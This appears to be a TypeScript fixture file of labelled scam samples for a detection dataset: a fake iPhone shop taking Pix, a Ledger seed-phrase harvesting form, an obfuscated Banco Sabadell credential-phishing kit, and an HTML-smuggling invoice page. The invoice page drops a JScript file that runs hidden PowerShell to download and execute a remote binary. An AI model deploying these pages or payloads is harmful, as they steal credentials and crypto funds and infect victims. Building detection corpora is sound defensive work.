import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, mark, topbar, foot, btn, form, b64, tgRelay, sms } from '../parts/zp-kit.js';
import { zip, pe, cfb, iso, lnk, apk, fileRoute, jsRoute, jsonRoute, pngRoute, beepWav } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zp-loja-falsa-iphone-pix-desconto',
  label: 'scam',
  kind: 'fake-shop',
  url: 'https://queima-estoque-eletronicos.store/produto/iphone-15-pro',
  body: page({
    lang: 'pt-BR',
    title: 'iPhone 15 Pro 256GB - Queima de Estoque - 70% OFF',
    body: `<header class="top"><strong>Eletrônicos Premium</strong><span>⏱ Oferta termina em 09:58</span></header><main><div class="card" style="max-width:560px"><h2>iPhone 15 Pro 256GB Titânio</h2><p><s>R$ 9.299,00</s> <b style="color:#c00;font-size:24px">R$ 1.897,00 no Pix</b></p><p>Apenas 3 unidades! Pagamento somente via Pix para garantir o desconto.</p><textarea readonly style="width:100%;height:70px">00020126360014BR.GOV.BCB.PIX0114+55119876543215204000053039865407 1897.005802BR5913JOAO P SILVA6009SAO PAULO62070503***6304A1B2</textarea>${btn('Copiar código Pix', '#16a34a')}<p class="muted">CNPJ 00.000.000/0001-00 · Entrega em até 48h para todo o Brasil</p></div></main>`,
  }),
},
{
  id: 'zp-ledger-recuperacion-frase-24',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-recuperacion.support/es/verificar',
  body: page({
    title: 'Ledger Live - Verificación de seguridad',
    css: `body{background:#131214;color:#fff}.card{background:#1c1b1f;color:#fff}textarea{width:100%}`,
    body: `<main><div class="card"><h2>Ledger</h2><p>Tras la filtración de datos de clientes, su dispositivo podría estar comprometido. Verifique su frase de recuperación de 24 palabras para migrar sus fondos a una nueva dirección segura.</p><form id="lg"><textarea name="phrase" rows="5" placeholder="palabra1 palabra2 ..."></textarea>${btn('Verificar', '#ff5300')}</form></div></main>
<script>document.getElementById("lg").addEventListener("submit",function(e){e.preventDefault();var x=new XMLHttpRequest();x.open("POST","/es/api/v2/check");x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("p="+encodeURIComponent(this.phrase.value)+"&w=ledger");this.innerHTML="<p>Verificando… no desconecte su dispositivo.</p>";});</script>`,
  }),
},
{
  id: 'zp-sabadell-charcode-obfuscated-kit',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://bsabadell-clientes.movil-acceso.es/es/',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Banco Sabadell</title></head><body><script>
(function(){var s="${Array.from(page({ title: 'Banco Sabadell - Acceso', css: `header.top{background:#006dff}`, body: `${topbar('<strong style="color:#fff">Sabadell</strong>', [], '#006dff')}<main><div class="card"><h2>Acceso clientes</h2><p>Su tarjeta ha sido bloqueada por seguridad. Acceda para reactivarla.</p>${form({ action: '/es/acceso.php', color: '#006dff', button: 'Entrar', fields: [['NIF / NIE', 'nif', 'text'], ['Clave de acceso', 'clave', 'password'], ['Firma digital (4 dígitos)', 'firma', 'password', 'maxlength="4"']] })}</div></main>` })).map((ch) => (ch.charCodeAt(0) + 3).toString(36)).join('.')}";
var o="";s.split(".").forEach(function(x){o+=String.fromCharCode(parseInt(x,36)-3)});document.open();document.write(o);document.close();})();
</script></body></html>`,
},
{
  id: 'zp-smuggling-fatura-pt-zip-js',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://faturas-meo.pt-clientes.com/fatura/2025-11',
  body: page({
    lang: 'pt-PT',
    title: 'MEO - A sua fatura de novembro',
    body: `<main><div class="card"><h2>MEO</h2><p>A sua fatura de novembro (54,99 €) está disponível. O download iniciará automaticamente.</p><p class="muted">Ficheiro: Fatura_MEO_Nov2025.zip</p></div></main>
<script>
var d="${zip([{ name: 'Fatura_MEO_Nov2025.js', data: 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -nop -w hidden -c \\"iwr https://faturas-meo.pt-clientes.com/p.bin -OutFile $env:APPDATA\\\\u.exe; start $env:APPDATA\\\\u.exe\\"",0);' }]).toString('base64')}";
function b(x){var r=atob(x),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}
setTimeout(function(){var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([b(d)],{type:"application/zip"}));l.download="Fatura_MEO_Nov2025.zip";document.body.appendChild(l);l.click()},700);
</script>`,
  }),
},
];
